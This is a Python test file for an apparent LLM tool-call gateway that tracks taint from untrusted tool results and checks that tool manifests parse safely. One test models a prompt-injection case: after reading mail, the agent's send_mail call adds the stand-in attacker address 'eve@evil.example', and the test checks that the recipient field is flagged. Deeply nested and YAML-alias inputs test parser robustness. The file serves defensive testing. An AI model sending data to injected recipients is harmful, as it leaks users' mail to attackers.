"""What holds for whatever comes: no fault but the named ones, the same answer twice, and taint that only grows."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.thoroughness import tries

from ostiary.errors import FaultyInputError
from ostiary.gateway.tools import Manifest, read_calls
from ostiary.gateway.tools.constraints import fits, vouches
from ostiary.gateway.tools.shapes import addresses_in, dates_in, fold, numbers_in
from ostiary.gateway.tools.structure import take_apart
from ostiary.testing.talks import OFFICE, Talk

MANIFEST = Manifest.parse(OFFICE.encode())
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
ROLES = st.sampled_from(["system", "user", "assistant", "tool", "developer", "function", "else"])
MESSAGES = st.lists(
    st.fixed_dictionaries(
        {"role": ROLES},
        optional={"content": VALUES, "tool_calls": VALUES, "tool_call_id": VALUES, "name": VALUES},
    )
    | VALUES,
    max_size=6,
)


@given(MESSAGES, st.dictionaries(st.text(max_size=8), VALUES, max_size=4))
@settings(max_examples=tries(100, 200))
def test_any_conversation_is_read_or_refused_by_name(messages, arguments):
    call = {"id": "1", "function": {"name": "send_mail", "arguments": arguments}}
    try:
        facts = read_calls(MANIFEST, [*messages, {"role": "assistant", "tool_calls": [call]}])
    except FaultyInputError as fault:
        assert fault.code in {"messages_invalid", "messages_too_large"}  # noqa: PT017 - most of them are fine
    else:
        assert facts == read_calls(MANIFEST, [*messages, {"role": "assistant", "tool_calls": [call]}])


@given(st.text(max_size=200), st.text(max_size=200))
def test_more_content_never_cleans_a_value(first, second):
    def tainted(*answers):
        talk = Talk().user("Send it to bob@corp.example, as ever")
        for answer in answers:
            talk.answered("read_mail", {}, answer)
        talk.calls("send_mail", {"to": ["eve@evil.example", "bob@corp.example"], "body": first[:40]})
        return set(read_calls(MANIFEST, talk.messages)[0].tainted)

    assert tainted(first) <= tainted(first, second)
    assert "to" in tainted(first)


@given(st.text(max_size=300))
def test_texts_are_taken_apart_whatever_they_hold(text):
    take_apart(text)
    addresses_in(text)
    assert dates_in(text) == dates_in(text)
    assert numbers_in(text) == numbers_in(text)
    assert fold(fold(text)) == fold(text)


@given(st.text(max_size=20), st.text(max_size=40))
def test_what_vouches_also_fits(pattern, value):
    assert fits(pattern, value) or not vouches(pattern, value)


@given(st.binary(max_size=200) | VALUES.map(lambda value: json.dumps({"tools": value}).encode()))
def test_any_manifest_is_read_or_refused(text):
    try:
        Manifest.parse(text)
    except FaultyInputError as fault:
        assert fault.code.startswith(("manifest_", "yaml_"))  # noqa: PT017 - a few of them are fine


@pytest.mark.parametrize(
    "tools",
    [
        [{"name": ""}],
        [{"name": "a"}, {"name": "a"}],
        [{"name": "a", "sink": "everywhere"}],
        [{"name": "a", "reads": True}],
        [{"name": "a", "args": {"x": {"allow": ["*" * 9 + "a"]}}}],
        [{"name": "a", "args": {"x": {"allow": ["y" * 513]}}}],
        [{"name": "a" * 257}],
        [{}],
        "a",
    ],
    ids=lambda tools: str(tools)[:40],
)
def test_manifests_that_are_refused(tools):
    with pytest.raises(FaultyInputError) as refused:
        Manifest.parse(json.dumps({"tools": tools}).encode())
    assert refused.value.code == "manifest_invalid"


def test_what_a_manifest_leaves_out_is_the_worst():
    tool = Manifest.parse(b'{"tools": [{"name": "a", "owner": "x"}]}').find("a")
    assert (tool.sink, tool.reads, tool.known) == ("egress", "untrusted", True)


@pytest.mark.parametrize("text", ["[" * 100_000, "- " * 20_000, "{a: " * 20_000, "a: &x [1]\nb: *x", "? " * 20_000])
def test_deep_texts_are_lines(text):
    assert not take_apart(text).solid or "&x" not in text
